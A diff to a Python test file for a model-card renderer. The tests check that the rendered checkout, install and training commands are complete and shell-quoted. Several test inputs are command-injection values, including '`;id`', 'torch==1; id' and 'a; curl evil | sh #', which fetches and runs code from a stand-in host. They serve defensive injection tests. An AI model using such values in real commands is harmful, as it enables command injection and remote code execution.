@@ -171,7 +171,8 @@ def test_the_commands_to_reproduce_it_are_complete(
     card = card_with(folder, device=device, versions=versions, commit="7e6117d" * 5)
     checkout, install, train = block(card, "sh").splitlines()
     assert checkout == "git checkout " + "7e6117d" * 5
-    assert install == "pip install torch==2.14.1 numpy==2.4.6 brevitas==0.13.4 --editable ."
+    pins = "torch==2.14.1 numpy==2.4.6 brevitas==0.13.4"
+    assert install == f"pip install {pins} $(ls -d ./runtime 2>/dev/null) --editable ."
     assert train == command
     words = shlex.split(train.partition("reproduce.py")[2])
     assert reproduce.main([*words, "--list"]) == 0
@@ -264,7 +265,7 @@ def test_commands_are_quoted_even_without_the_bounds_of_configs(folder: Path) ->
     _, blocks = rendered(render_card(config, "A net.", 10, 20))
     checkout, install, train = map(shlex.split, blocks[-1][1].splitlines())
     assert checkout == ["git", "checkout", "`;id`"]
-    assert install == ["pip", "install", "torch==1; id", "--editable", "."]
+    assert install[:3] == ["pip", "install", "torch==1; id"]
     assert train[0] == "OMP_NUM_THREADS=1; id"
     assert train[train.index("--entry") + 1] == "a; curl evil | sh #"
 
